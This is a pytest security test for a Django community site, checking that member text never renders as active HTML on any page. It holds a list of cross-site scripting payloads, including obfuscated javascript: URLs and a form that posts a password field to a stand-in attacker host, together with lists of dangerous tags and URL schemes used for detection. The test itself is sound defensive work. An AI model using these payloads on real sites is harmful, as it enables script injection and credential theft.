"""Member text never becomes active HTML, on any page that shows it.

Every payload in the corpus goes into a post's title, body and content
warning, a reply, a member's name, pronouns and bio, and the search box; then
every page that can show it is parsed, and nothing in it may run script,
load a frame or object, restyle the page, or send a form elsewhere.
"""

import html
import re
from html.parser import HTMLParser

import pytest
from django.test import Client

from community import services
from community.models import (
    BIO_MAX,
    CONTENT_WARNING_MAX,
    DISPLAY_NAME_MAX,
    PRONOUNS_MAX,
    Space,
)
from tests.community.xss_vectors import XSS_VECTORS

# --- The check ------------------------------------------------------------------

# Tags member text must never produce; the site's own pages use none of them.
FORBIDDEN_TAGS = {
    "iframe", "frame", "frameset", "object", "embed", "applet", "base",
    "svg", "math", "style", "portal",
}  # fmt: skip
# Attributes whose value a browser follows as a URL (htmx's own included).
URL_ATTRIBUTES = {
    "href", "src", "action", "formaction", "xlink:href", "data", "poster", "background",
    "codebase", "cite", "ping", "lowsrc", "dynsrc",
    "hx-get", "hx-post", "hx-put", "hx-patch", "hx-delete",
    "data-hx-get", "data-hx-post", "data-hx-put", "data-hx-patch", "data-hx-delete",
}  # fmt: skip
DANGEROUS_SCHEMES = ("javascript:", "vbscript:", "data:")
SITE_ASSET_PREFIX = "/static/"
# Browsers drop ASCII whitespace and control characters around and inside a scheme.
_IGNORED_IN_URL = re.compile(r"[\x00-\x20\x7f]+")


def _is_dangerous_url(value: str) -> bool:
    """True when a URL attribute's value would run code or load a document inline.

    The parser has already decoded character references, as a browser does;
    unescaping again here only catches what the parser left alone.
    """
    cleaned = _IGNORED_IN_URL.sub("", html.unescape(value)).lower()
    return cleaned.startswith(DANGEROUS_SCHEMES)


def _is_local_path(value: str) -> bool:
    cleaned = _IGNORED_IN_URL.sub("", value)
    return cleaned.startswith("/") and not cleaned.startswith(("//", "/\\"))


class _ActiveHtmlFinder(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self._in_script = False

    def _problem(self, what: str) -> None:
        line, column = self.getpos()
        self.problems.append(f"line {line}, column {column}: {what}")

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)
        self._in_script = False

    def handle_starttag(self, tag, attrs):
        attributes = dict(attrs)
        shown = self.get_starttag_text()
        if tag in FORBIDDEN_TAGS:
            self._problem(f"<{tag}> tag: {shown}")
        if tag == "script":
            self._in_script = True
            if not _is_local_asset(attributes.get("src")):
                self._problem(f"a script that isn't the site's own: {shown}")
        if tag == "link" and not _is_local_asset(attributes.get("href")):
            self._problem(f"a stylesheet or link that isn't the site's own: {shown}")
        if tag == "meta" and "http-equiv" in attributes:
            self._problem(f"<meta http-equiv>: {shown}")
        if tag == "form" and attributes.get("action") and not _is_local_path(attributes["action"]):
            self._problem(f"a form that sends elsewhere: {shown}")
        for name, value in attrs:
            if name.startswith(("on", "hx-on", "data-hx-on")):
                self._problem(f"event handler attribute {name!r}: {shown}")
            elif name in ("style", "srcdoc"):
                self._problem(f"{name!r} attribute: {shown}")
            elif name in URL_ATTRIBUTES and value and _is_dangerous_url(value):
                self._problem(f"{name!r} with a script or data URL: {shown}")

    def handle_endtag(self, tag):
        if tag == "script":
            self._in_script = False

    def handle_data(self, data):
        if self._in_script and data.strip():
            self._problem(f"inline script: {data.strip()[:80]!r}")


def _is_local_asset(url: str | None) -> bool:
    return bool(url) and url.startswith(SITE_ASSET_PREFIX)


def find_active_html(html_text: str) -> list[str]:
    """Everything in the page that could run script or change where the page goes."""
    finder = _ActiveHtmlFinder()
    finder.feed(html_text)
    finder.close()
    return finder.problems


def assert_no_active_html(html_text: str) -> None:
    """Fails when the page holds a script, frame, object, handler or script URL
    other than the site's own scripts and stylesheet."""
    problems = find_active_html(html_text)
    assert not problems, "Active HTML in the page:\n" + "\n".join(problems)


# --- The check itself can fail -----------------------------------------------------

SITE_HEAD = (
    '<!doctype html><html><head><meta charset="utf-8">'
    '<meta name="htmx-config" content=\'{"allowEval": false}\'>'
    '<link rel="stylesheet" href="/static/css/fourc.css">'
    '<script src="/static/vendor/htmx/htmx.min.js" defer></script></head><body>'
)


@pytest.mark.parametrize(
    "bad",
    [
        "<script>alert(1)</script>",
        '<script src="https://evil.example/x.js"></script>',
        "<img src=x onerror=alert(1)>",
        "<p OnMouseOver='alert(1)'>x</p>",
        '<a href="javascript:alert(1)">x</a>',
        '<a href=" JaVa\tScRiPt:alert(1)">x</a>',
        '<a href="&#106;avascript&colon;alert(1)">x</a>',
        '<a href="vbscript:msgbox(1)">x</a>',
        '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
        '<iframe src="https://example.org"></iframe>',
        '<object data="x"></object>',
        '<embed src="x">',
        '<base href="https://evil.example/">',
        '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
        "<svg><circle r=1></circle></svg>",
        "<math><mi>x</mi></math>",
        '<form action="https://evil.example/steal"><input name="password"></form>',
        '<button formaction="javascript:alert(1)">x</button>',
        '<svg><a xlink:href="javascript:alert(1)">x</a></svg>',
        '<p style="color:red">x</p>',
        "<style>body{display:none}</style>",
        '<div hx-on:click="alert(1)">x</div>',
        '<link rel="stylesheet" href="https://evil.example/x.css">',
    ],
)
def test_the_check_fails_on_active_html(bad):
    with pytest.raises(AssertionError, match="Active HTML"):
        assert_no_active_html(SITE_HEAD + "<p>Hello</p>" + bad + "</body></html>")


def test_the_check_passes_the_sites_own_markup_and_escaped_payloads():
    page = (
        SITE_HEAD
        + '<a href="/members/sam/">Sam</a> <a href="https://example.org" rel="nofollow">x</a>'
        + '<form method="post" action="/posts/1/react/" hx-post="/posts/1/react/"></form>'
        + "<form method=post></form>"
        + "".join(f"<p>{html.escape(vector)}</p>" for vector in XSS_VECTORS)
        + "</body></html>"
    )

    assert_no_active_html(page)


@pytest.mark.django_db
def test_the_check_passes_the_sites_own_pages(client, member):
    for url in ("/", "/spaces/", "/help/", "/guidelines/"):
        response = client.get(url)
        assert response.status_code == 200, url
        assert_no_active_html(response.content.decode())
    client.force_login(member)
    for url in ("/", "/spaces/", "/unanswered/", "/search/", "/help/"):
        response = client.get(url)
        assert response.status_code == 200, url
        assert_no_active_html(response.content.decode())


def test_the_corpus_is_large_distinct_and_free_of_control_characters():
    assert len(XSS_VECTORS) >= 60
    assert len(set(XSS_VECTORS)) == len(XSS_VECTORS)
    for vector in XSS_VECTORS:
        assert vector.strip(), vector
        assert all(char in "\t\n" or 32 <= ord(char) != 127 for char in vector), repr(vector)
        assert len(vector) <= 200, vector  # fits a post title


# --- Every surface, every page -----------------------------------------------------

SEARCH_WORD = "marigold"


def _vector_id(index: int, vector: str) -> str:
    return f"{index:03d}-{re.sub(r'[^A-Za-z0-9]+', '_', vector).strip('_')[:32]}"


VECTOR_IDS = [_vector_id(i, v) for i, v in enumerate(XSS_VECTORS)]


def _logged_in(member) -> Client:
    client = Client()
    client.force_login(member)
    return client


def _page(client: Client, url: str, **kwargs) -> str:
    response = client.get(url, **kwargs)
    assert response.status_code == 200, (url, response.status_code)
    return response.content.decode()


def _assert_page_safe(name: str, page: str, vector: str) -> None:
    problems = find_active_html(page)
    assert not problems, f"{name}: active HTML from {vector!r}:\n" + "\n".join(problems)
    if "<" in vector:
        # Escaped, it can't appear as typed: a raw "<" would be the page's own markup.
        assert vector not in page, f"{name}: {vector!r} appears unescaped"


@pytest.mark.django_db
@pytest.mark.parametrize("vector", XSS_VECTORS, ids=VECTOR_IDS)
def test_member_text_never_becomes_active_html_on_any_page(member, other_member, vector):
    maya, sam = member, other_member
    visitor, as_sam, as_maya = Client(), _logged_in(sam), _logged_in(maya)
    # Searched for before anything is written, so the page says it found nothing.
    searched_for = _page(as_sam, "/search/", data={"q": vector})
    assert "Nothing matched" in searched_for

    space = Space.objects.create(
        slug="low-energy",
        name="Low-energy days",
        description="For the slow days.",
        is_public=True,  # so a visitor reads the posts too
    )
    services.follow_space(member=sam, space=space)
    services.update_profile(
        member=maya,
        display_name=vector[:DISPLAY_NAME_MAX],
        pronouns=vector[:PRONOUNS_MAX],
        bio=vector[:BIO_MAX],
    )
    # Folded behind a content warning, waiting for a reply, mentioning Sam.
    waiting = services.create_post(
        author=maya,
        space=space,
        title=vector,
        body=f"{vector}\n\n{SEARCH_WORD} @sam",
        intent="support",
        content_warning=vector[:CONTENT_WARNING_MAX],
    )
    # Open, with a reply from Sam and one back from Maya.
    answered = services.create_post(
        author=maya, space=space, title=vector, body=f"{SEARCH_WORD} {vector}", intent="win"
    )
    sams_reply = services.post_reply(author=sam, post=answered, body=f"{vector} {SEARCH_WORD}")
    mayas_reply = services.post_reply(author=maya, post=answered, body=vector)
    services.set_reaction(member=maya, kind="hear", on=True, reply=sams_reply)
    services.set_reaction(member=sam, kind="strength", on=True, post=waiting)

    pages = {
        "search before anything is written (Sam)": searched_for,
        "post page (visitor)": _page(visitor, f"/posts/{waiting.pk}/"),
        "answered post page (visitor)": _page(visitor, f"/posts/{answered.pk}/"),
        "post page (Sam)": _page(as_sam, f"/posts/{waiting.pk}/"),
        "answered post page (Sam)": _page(as_sam, f"/posts/{answered.pk}/"),
        "space page (Sam)": _page(as_sam, "/spaces/low-energy/"),
        "needs a reply (Sam)": _page(as_sam, "/unanswered/"),
        "notifications (Sam)": _page(as_sam, "/notifications/"),
        "notifications (Maya)": _page(as_maya, "/notifications/"),
        "search results (Sam)": _page(as_sam, "/search/", data={"q": SEARCH_WORD}),
        "search for the payload (Sam)": _page(as_sam, "/search/", data={"q": vector}),
        "member page (Sam)": _page(as_sam, "/members/maya/"),
        "home (Sam)": _page(as_sam, "/"),
        "home (Maya)": _page(as_maya, "/"),
        "edit post (Maya)": _page(as_maya, f"/posts/{answered.pk}/edit/"),
        "edit reply (Maya)": _page(as_maya, f"/replies/{mayas_reply.pk}/edit/"),
        "profile settings (Maya)": _page(as_maya, "/settings/profile/"),
        "report a post (Sam)": _page(as_sam, f"/posts/{waiting.pk}/report/"),
        "report a member (Sam)": _page(as_sam, "/members/maya/report/"),
        "block, with its message (Sam)": _page_after_post(as_sam, "/members/maya/block/"),
        "blocked list (Sam)": _page(as_sam, "/settings/blocked/"),
    }

    # The payload really reached each surface (so a clean page means escaped, not absent).
    notifications = pages["notifications (Sam)"]
    assert "mentioned you" in notifications
    assert "replied in" in notifications
    assert "said “I hear you”" in notifications
    assert "replied to your post" in pages["notifications (Maya)"]
    assert 'class="snippet"' in pages["search results (Sam)"]
    assert 'class="cw-note"' in pages["needs a reply (Sam)"]
    assert 'class="cw-note"' in pages["home (Sam)"]
    assert html.escape(vector[:DISPLAY_NAME_MAX]) in pages["member page (Sam)"]
    for name, page in pages.items():
        _assert_page_safe(name, page, vector)


def _page_after_post(client: Client, url: str) -> str:
    response = client.post(url, follow=True)
    assert response.status_code == 200, (url, response.status_code)
    return response.content.decode()
